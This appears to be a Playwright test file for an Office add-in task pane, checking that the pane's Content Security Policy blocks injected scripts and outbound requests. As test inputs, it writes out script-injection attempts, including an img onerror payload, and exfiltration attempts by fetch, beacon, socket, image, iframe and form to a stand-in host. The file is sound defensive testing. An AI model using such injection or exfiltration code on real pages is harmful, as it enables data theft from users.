import { readFileSync } from "fs";
import { join } from "path";
import type { Frame } from "playwright-core";
import { openPlayground, type Opened } from "./browser";
import { openSmallLedger, paneOf } from "./paneFrame";

let playground: Opened;
let pane: Frame;

beforeAll(async () => {
  playground = await openPlayground();
  pane = await paneOf(playground);
}, 120_000);

afterAll(() => playground?.close());

/** Tries something in the pane's page: the rule of its policy that refuses it, or "allowed" after a while. */
async function refusal(attempt: () => unknown): Promise<string> {
  await pane.evaluate(() => {
    document.addEventListener(
      "securitypolicyviolation",
      ({ effectiveDirective }) => {
        document.documentElement.dataset["refused"] ??= effectiveDirective;
      },
      { once: true }
    );
    delete document.documentElement.dataset["refused"];
  });
  // From a timer: what a debugger evaluates itself is exempt from some rules.
  await pane.evaluate(`void setTimeout(${attempt.toString()})`);
  return pane
    .waitForFunction(() => document.documentElement.dataset["refused"], undefined, {
      timeout: 3000,
    })
    .then(
      (rule) => rule.jsonValue() as Promise<string>,
      () => "allowed"
    );
}

test("a script written into the page does not run", async () => {
  const rule = await refusal(() => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'taken over'";
    document.body.append(script);
  });
  expect(rule).toBe("script-src-elem");
  expect(await pane.title()).not.toBe("taken over");
});

test("an attribute with code does not run", async () => {
  const rule = await refusal(() => {
    const image = document.createElement("img");
    image.setAttribute("onerror", "document.title = 'taken over'");
    image.src = "data:image/png;base64,broken";
    document.body.append(image);
  });
  expect(rule).toBe("script-src-attr");
  expect(await pane.title()).not.toBe("taken over");
});

test("a script of another address is not loaded", async () => {
  const rule = await refusal(() => {
    const script = document.createElement("script");
    script.src = "https://elsewhere.example/script.js";
    document.body.append(script);
  });
  expect(rule).toBe("script-src-elem");
});

test("a text does not become code", async () => {
  const rule = await refusal(() => {
    try {
      new Function("document.title = 'taken over'")();
    } catch {
      // refused: what is asked is by which rule
    }
  });
  expect(rule).toBe("script-src");
  expect(await pane.title()).not.toBe("taken over");
});

test("nothing can be sent: no request, beacon, picture, socket or frame", async () => {
  const elsewhere = {
    "connect-src": [
      () => void fetch("https://elsewhere.example/?clients").catch(() => undefined),
      () => void navigator.sendBeacon("https://elsewhere.example/", "clients"),
      () => {
        try {
          new WebSocket("wss://elsewhere.example/");
        } catch {
          // refused: what is asked is by which rule
        }
      },
    ],
    "img-src": [() => void (new Image().src = "https://elsewhere.example/?clients")],
    "frame-src": [
      () => {
        const frame = document.createElement("iframe");
        frame.src = "https://elsewhere.example/";
        document.body.append(frame);
      },
    ],
  };
  for (const [rule, attempts] of Object.entries(elsewhere)) {
    for (const attempt of attempts) expect(await refusal(attempt)).toBe(rule);
  }
});

test("a worker made of a text is not started", async () => {
  const rule = await refusal(() => {
    try {
      new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    } catch {
      // refused: what is asked is by which rule
    }
  });
  expect(rule).toBe("worker-src");
});

test("a form is not sent", async () => {
  const complaint = playground.page.waitForEvent("console", {
    predicate: (message) => message.text().includes("form-action 'none'"),
  });
  await pane.evaluate(() => {
    const form = document.createElement("form");
    form.action = "https://elsewhere.example/";
    document.body.append(form);
    setTimeout(() => form.submit());
  });
  expect((await complaint).text()).toContain("has been blocked");
  expect(playground.outside).toEqual([]);
});

test("the pane itself breaks no rule, and asks for nothing but its own files", async () => {
  const fresh = await openPlayground();
  const complaints: string[] = [];
  fresh.page.on("console", (message) => {
    if (/Content.Security.Policy/i.test(message.text())) complaints.push(message.text());
  });
  try {
    const opened = await openSmallLedger(fresh);
    await opened.getByRole("button", { name: "Segment clients" }).click();
    await opened.getByRole("button", { name: "Open sheet" }).waitFor();
    expect(complaints).toEqual([]);
    expect(fresh.outside).toEqual([]);
  } finally {
    await fresh.close();
  }
}, 120_000);

test("the page that ships allows office.js from Microsoft's network, and nothing else from outside", () => {
  const page = readFileSync(join(__dirname, "../../dist/taskpane.html"), "utf8");
  const policy = /http-equiv="?Content-Security-Policy"? content="([^"]+)"/.exec(page)?.[1] ?? "";
  const office = "https://appsforoffice.microsoft.com";
  expect(policy.split("; ")).toEqual([
    "default-src 'none'",
    `script-src 'self' ${office}`,
    `connect-src 'self' ${office}`,
    "worker-src 'self'",
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data:",
    "font-src 'self' data:",
    "base-uri 'none'",
    "form-action 'none'",
  ]);
  expect(page).not.toMatch(/<script(?![^>]*\bsrc=)|\son\w+=/);
});
